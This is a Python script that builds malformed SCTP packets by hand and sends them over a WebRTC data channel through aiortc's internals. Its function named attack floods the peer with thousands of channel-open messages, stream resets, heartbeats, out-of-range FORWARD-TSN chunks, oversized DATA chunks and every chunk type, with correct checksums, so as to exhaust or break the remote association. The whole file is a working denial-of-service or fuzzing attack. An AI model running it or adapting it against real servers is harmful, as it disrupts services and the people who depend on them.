"""What no viewer should send by a data channel, by aiortc's SCTP and past it."""

import asyncio
from struct import pack

from aiortc.rtcsctptransport import crc32c


def padded(data):
    return data + bytes(-len(data) % 4)


def chunk(kind, flags, value):
    return padded(pack("!BBH", kind, flags, len(value) + 4) + value)


def data(flags, tsn, stream, sequence, protocol, user_data):
    return chunk(0, flags, pack("!LHHL", tsn % 2**32, stream, sequence, protocol) + user_data)


def reset(request, last_tsn, streams):
    value = pack("!LLL", request % 2**32, 0, last_tsn % 2**32) + b"".join(pack("!H", stream) for stream in streams)
    return chunk(130, 0, pack("!HH", 13, len(value) + 4) + value)


def forward(tsn, streams=()):
    return chunk(192, 0, pack("!L", tsn % 2**32) + b"".join(pack("!HH", stream, 0) for stream in streams))


def packets(tsn):
    """Those that end the association come last. None: a pause, as the server takes little at once. aiortc cuts what is
    longer than 1,500 bytes into pieces, which are junk.
    """
    heartbeat = chunk(4, 0, pack("!HH", 1, 8) + b"beat")
    name = b"x" * 200
    open_channel = pack("!BBHLHH", 3, 0, 0, 0, len(name), 0) + name
    for stream in range(0, 2**16, 4):
        yield [data(3, tsn + stream + i, stream + i, 0, 50, open_channel) for i in range(4)]
    yield None
    tsn += 2**16
    for request in range(5000):
        yield [reset(request, tsn + 50, [0, 1, 2])]
    yield None
    for number in range(200):
        yield [heartbeat] * 110
        yield [data(0, tsn + 1 + number, 3, 1, 51, b"f" * 1300)]
        yield [data(7, tsn + 2**20 * number, 5, number, 51, b"far")]
        yield [data(3, tsn + i, 7, i, 51, b"u") for i in range(60)]
        yield [forward(tsn - 1, [1, 2, 3])] * 60
    for distance in [2**31 - 1, 2**31, 2**30, 1000]:
        yield None
        yield [forward(tsn + distance)]
        yield [forward(tsn + distance, range(300))]
    yield [data(0, tsn, 3, 1, 51, b"f" * 15000)]
    for kind in range(256):
        yield [chunk(kind, 0, bytes([0, 12, 255, 255]))]


async def attack(sctp):
    tag, transport = sctp._remote_verification_tag, sctp.transport
    # What is answered, it would not bear itself.
    transport._data_receiver = None
    for number, chunks in enumerate(packets(sctp._local_tsn)):
        if chunks is None:
            await asyncio.sleep(1.5)
            continue
        packet = pack("!HHLL", 5000, 5000, tag, 0) + b"".join(chunks)
        packet = packet[:8] + pack("<L", crc32c(packet)) + packet[12:]
        try:
            await transport._send_data(packet)
        except ConnectionError:
            return
        if number % 32 == 0:
            await asyncio.sleep(0)
